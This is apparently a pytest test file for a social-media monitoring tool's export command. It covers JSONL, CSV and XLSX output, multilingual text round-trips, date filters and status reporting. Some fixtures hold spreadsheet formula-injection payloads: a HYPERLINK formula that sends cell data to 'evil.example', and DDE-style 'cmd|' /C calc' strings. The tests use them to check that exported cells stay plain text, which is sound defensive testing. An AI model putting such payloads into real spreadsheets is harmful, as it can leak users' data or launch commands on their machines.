"""Export: exactly the contracted fields, both formats, text round-trips exactly."""

from __future__ import annotations

import csv
import io
import json
import shutil
from datetime import UTC, datetime
from pathlib import Path

import pytest
from click.testing import CliRunner

from tagwatch.monitor.cli import cli
from tagwatch.reports.export import EXPORT_FIELDS
from tagwatch.storage.db import Store
from tests.conftest import make_post

ROOT = Path(__file__).resolve().parent.parent

HARD_TEXTS = [
    "Emoji 👩🏽‍⚖️✊🏿🇷🇸 and ZWJ sequences #HRHN2016",
    "حقوق الإنسان للجميع — right-to-left #HRHN2016",
    "זכויות אדם\u200f mixed with English",
    "Ćirilica i latinica: Слобода окупљања, sloboda okupljanja; «quotes», 'single', \"double\"",
    "Line one\nline two, with a comma; and a semicolon\ttab",
    "Azərbaycan: siyasi məhbuslar azad edilməlidir. Wolność zgromadzeń. Gyülekezési szabadság.",
]


@pytest.fixture
def event_config(tmp_path):
    shutil.copy(ROOT / "config.toml", tmp_path / "config.toml")
    text = (tmp_path / "config.toml").read_text(encoding="utf-8")
    (tmp_path / "config.toml").write_text(text.replace('path = "tagwatch.db"', 'path = "t.db"'))
    return tmp_path / "config.toml"


def seed(db_path: Path) -> None:
    with Store.open(db_path) as store:
        posts = [
            make_post(
                i,
                text=t,
                mentions=("@maja.bsky.social", "@hrh.org"),
                hashtags=("HRHN2016", "Слобода"),
                created_at=datetime(2016, 11, 24, 9 + i, 0, tzinfo=UTC),
            )
            for i, t in enumerate(HARD_TEXTS, start=1)
        ]
        posts.append(
            make_post(
                50, platform="x", views=777, created_at=datetime(2016, 11, 26, 22, 30, tzinfo=UTC)
            )
        )
        gone = make_post(60, created_at=datetime(2016, 11, 25, 12, tzinfo=UTC))
        posts.append(gone)
        store.write_posts(posts)
        store.mark_deleted(gone.platform, gone.platform_id)


def run(args: list[str]):
    return CliRunner().invoke(cli, args, catch_exceptions=False)


def test_jsonl_has_exactly_the_contracted_fields_and_round_trips(event_config, tmp_path):
    seed(tmp_path / "t.db")
    out = tmp_path / "posts.jsonl"
    result = run(["--config", str(event_config), "export", "--format", "jsonl", "--out", str(out)])
    assert result.exit_code == 0, result.output
    records = [json.loads(line) for line in out.read_text(encoding="utf-8").splitlines()]
    assert len(records) == len(HARD_TEXTS) + 1  # the deleted post is not exported
    for record in records:
        assert tuple(record) == EXPORT_FIELDS
    texts = [r["text"] for r in records if r["platform"] == "bluesky"]
    assert texts == HARD_TEXTS
    first = records[0]
    assert first["hashtags"] == ["hrhn2016", "слобода"]
    assert first["mentions"] == ["@maja.bsky.social", "@hrh.org"]
    assert first["deleted"] is False and first["views"] is None
    assert first["created_at"] == "2016-11-24T10:00:00.000000Z"
    assert records[-1]["views"] == 777


def test_csv_round_trips_and_joins_lists(event_config, tmp_path):
    seed(tmp_path / "t.db")
    result = run(["--config", str(event_config), "export", "--format", "csv"])
    assert result.exit_code == 0
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert tuple(rows[0]) == EXPORT_FIELDS
    assert [r["text"] for r in rows if r["platform"] == "bluesky"] == HARD_TEXTS
    assert rows[0]["hashtags"] == "hrhn2016;слобода"
    assert rows[0]["deleted"] == "false"


def test_filters_by_local_day_and_platform(event_config, tmp_path):
    seed(tmp_path / "t.db")
    # 2016-11-26 22:30 UTC is 23:30 in Belgrade: still the 26th locally
    result = run(
        ["--config", str(event_config), "export", "--since", "2016-11-26", "--until", "2016-11-26"]
    )
    records = [json.loads(x) for x in result.stdout.splitlines()]
    assert [r["platform"] for r in records] == ["x"]
    result = run(["--config", str(event_config), "export", "--platform", "x"])
    assert len(result.stdout.splitlines()) == 1
    result = run(["--config", str(event_config), "export", "--until", "2016-11-23"])
    assert result.stdout == ""


def test_include_deleted_lists_tombstones(event_config, tmp_path):
    seed(tmp_path / "t.db")
    result = run(["--config", str(event_config), "export", "--include-deleted"])
    records = [json.loads(x) for x in result.stdout.splitlines()]
    gone = [r for r in records if r["deleted"]]
    assert len(gone) == 1 and gone[0]["text"] == "" and gone[0]["url"] == ""


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["--since", "24/11/2016"], "--since '24/11/2016' is not a date; use YYYY-MM-DD"),
        (["--since", "2016-11-26", "--until", "2016-11-24"], "is before --since"),
    ],
)
def test_bad_dates_exit_2(event_config, args, message):
    result = CliRunner().invoke(cli, ["--config", str(event_config), "export", *args])
    assert result.exit_code == 2
    assert message in result.output


def test_status_shows_posts_and_collectors(event_config, tmp_path):
    seed(tmp_path / "t.db")
    with Store.open(tmp_path / "t.db") as store:
        rid = store.start_run("bluesky")
        store.finish_run(
            rid,
            status="failed",
            requests=2,
            new_posts=0,
            updated_posts=0,
            error="HTTP 503 from bsky.social",
        )
    result = run(["--config", str(event_config), "status"])
    assert result.exit_code == 0
    out = result.output
    assert "Posts: 7" in out and "bluesky" in out and "1 deleted upstream" in out
    assert "HTTP 503 from bsky.social" in out
    assert "1 failure(s) in a row" in out
    assert "Database:" in out and "KiB" in out


OLD_FIELDS = (
    "platform,id,url,author_handle,author_name,text,created_at,lang,hashtags,mentions,"
    "likes,reposts,replies,quotes,views,deleted"
)


def seed_enriched(config_path: Path) -> None:
    """An English post in the opening session, a Serbian one outside every session, then one
    stored after enrichment ran (not yet enriched)."""
    from tagwatch.monitor.enrichment import enrich_pending
    from tagwatch.settings import load_config

    config = load_config(config_path)
    with Store.open(config.db_path) as store:
        store.write_posts(
            [
                make_post(
                    1,
                    text="What a wonderful, inspiring and excellent opening speech #HRHN2016",
                    created_at=datetime(2016, 11, 24, 9, 15, tzinfo=UTC),  # 10:15 in Belgrade
                    likes=0,
                ),
                make_post(
                    2,
                    text="Sloboda okupljanja je ugrožena i to je veoma loše za sve građane Srbije",
                    lang=None,
                    created_at=datetime(2016, 11, 24, 7, 0, tzinfo=UTC),
                ),
            ]
        )
        assert enrich_pending(store, config) == 2
        store.write_posts(
            [
                make_post(
                    3,
                    text='=HYPERLINK("http://evil.example/?"&A1,"Click for the agenda")',
                    created_at=datetime(2016, 11, 24, 16, 0, tzinfo=UTC),
                    platform="x",
                    platform_id="1234567890123456789",
                    views=None,
                ),
            ]
        )


def test_export_carries_the_enrichment_after_the_contracted_fields(event_config, tmp_path):
    seed_enriched(event_config)
    assert EXPORT_FIELDS[-4:] == ("lang_detected", "sentiment", "session", "author_id")
    assert ",".join(EXPORT_FIELDS[:-4]) == OLD_FIELDS
    result = run(["--config", str(event_config), "export"])
    english, serbian, fresh = (
        sorted(
            (json.loads(x) for x in result.stdout.splitlines()),
            key=lambda r: r["text"][:1] != "W",
        )[i]
        for i in range(3)
    )
    assert english["lang_detected"] == "en" and english["session"] == "Opening of the Assembly"
    assert isinstance(english["sentiment"], float) and english["sentiment"] > 0.3
    assert serbian["lang_detected"] in ("sr", "hr")  # Latin-script Serbian and Croatian are close
    assert serbian["sentiment"] is None and serbian["session"] == ""
    assert (fresh["lang_detected"], fresh["sentiment"], fresh["session"]) == ("", None, "")
    # The author's stable id, last: the DID here, whatever handle the post carried.
    assert english["author_id"] == "did:plc:author1" and list(english)[-1] == "author_id"

    result = run(["--config", str(event_config), "export", "--format", "csv"])
    lines = result.stdout.splitlines()
    assert lines[0] == OLD_FIELDS + ",lang_detected,sentiment,session,author_id"
    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(result.stdout))}
    assert rows["1234567890123456789"]["sentiment"] == ""
    assert rows["1234567890123456789"]["session"] == ""
    by_text = {r["text"][:4]: r for r in rows.values()}
    assert float(by_text["What"]["sentiment"]) == english["sentiment"]
    assert by_text["What"]["views"] == ""
    assert by_text["What"]["author_id"] == "did:plc:author1"


def test_xlsx_keeps_text_as_text_counts_as_numbers_dates_as_dates(event_config, tmp_path):
    import openpyxl

    seed_enriched(event_config)
    out = tmp_path / "posts.xlsx"
    result = run(["--config", str(event_config), "export", "--format", "xlsx", "--out", str(out)])
    assert result.exit_code == 0, result.output
    assert f"Exported 3 posts to {out}" in result.output
    ws = openpyxl.load_workbook(out)["posts"]
    assert ws.freeze_panes == "A2"
    header = [c.value for c in ws[1]]
    assert header == [("created_at (UTC)" if f == "created_at" else f) for f in EXPORT_FIELDS]
    rows = [{h: c for h, c in zip(header, r, strict=True)} for r in ws.iter_rows(min_row=2)]
    by_id = {r["id"].value: r for r in rows}
    formula = by_id["1234567890123456789"]
    assert formula["text"].data_type == "s"  # a string cell, never a formula
    assert formula["text"].value == '=HYPERLINK("http://evil.example/?"&A1,"Click for the agenda")'
    assert formula["id"].data_type == "s"  # X's 19-digit id is not rounded as a number
    assert formula["likes"].value == 3 and formula["likes"].data_type == "n"
    assert formula["views"].value is None  # unknown: empty, not 0
    assert formula["deleted"].value is False
    assert formula["created_at (UTC)"].value == datetime(2016, 11, 24, 16, 0)
    assert formula["created_at (UTC)"].is_date
    english = next(r for r in rows if r["text"].value.startswith("What"))
    assert english["likes"].value == 0 and english["likes"].data_type == "n"
    assert english["views"].value is None  # Bluesky gives no view count
    assert english["sentiment"].data_type == "n" and english["sentiment"].value > 0.3
    assert english["session"].value == "Opening of the Assembly"
    assert english["hashtags"].value == "hrhn2016"
    assert english["author_id"].value == "did:plc:author1"
    assert english["author_id"].data_type == "s"
    assert all(
        c.data_type in ("s", "n", "b", "d") and c.data_type != "f" for r in rows for c in r.values()
    )
    import zipfile

    sheet = zipfile.ZipFile(out).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet  # no formula anywhere in the file


@pytest.mark.parametrize("lead", ["=", "+", "-", "@"])
def test_xlsx_never_turns_a_leading_sign_into_a_formula(tmp_path, lead):
    import openpyxl

    from tagwatch.reports.export_xlsx import write_xlsx

    row = dict.fromkeys(EXPORT_FIELDS, "")
    row.update(
        text=f"{lead}cmd|' /C calc'!A0\x07",
        author_name=f"{lead}1+1",
        created_at="2016-11-24T10:00:00.000000Z",
        hashtags=[],
        mentions=[],
        likes=1,
        reposts=0,
        replies=0,
        quotes=0,
        views=None,
        deleted=False,
        sentiment=None,
    )
    write_xlsx(iter([row]), tmp_path / "p.xlsx")
    ws = openpyxl.load_workbook(tmp_path / "p.xlsx")["posts"]
    header = [c.value for c in ws[1]]
    cells = dict(zip(header, ws[2], strict=True))
    assert cells["text"].data_type == "s"
    assert cells["text"].value == f"{lead}cmd|' /C calc'!A0\ufffd"  # BEL cannot be in XML
    assert cells["author_name"].data_type == "s" and cells["author_name"].value == f"{lead}1+1"


def test_xlsx_needs_out(event_config):
    result = CliRunner().invoke(cli, ["--config", str(event_config), "export", "--format", "xlsx"])
    assert result.exit_code == 2
    assert "--format xlsx writes a binary file: name it with --out" in result.output


def test_xlsx_to_a_folder_that_does_not_exist(event_config, tmp_path):
    seed(tmp_path / "t.db")
    out = tmp_path / "missing" / "posts.xlsx"
    result = CliRunner().invoke(
        cli, ["--config", str(event_config), "export", "--format", "xlsx", "--out", str(out)]
    )
    assert result.exit_code == 2
    assert f"Cannot write {out}" in result.output
